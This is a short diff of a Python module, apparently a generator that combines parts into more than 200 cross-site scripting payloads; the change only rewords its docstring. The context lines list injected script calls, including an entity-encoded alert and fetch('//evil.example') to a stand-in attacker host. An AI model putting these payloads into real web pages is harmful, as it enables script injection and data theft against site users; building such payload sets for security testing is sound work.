@@ -1,4 +1,4 @@
-"""More than two hundred ways in which people have made a page run what they wrote, made from parts that combine."""
+"""More than 200 payloads of cross-site scripting, combined from parts."""
 
 _CALLS = ("alert(1)", "alert`1`", "fetch('//evil.example')", "&#97;lert(1)")
 _ELEMENTS = (
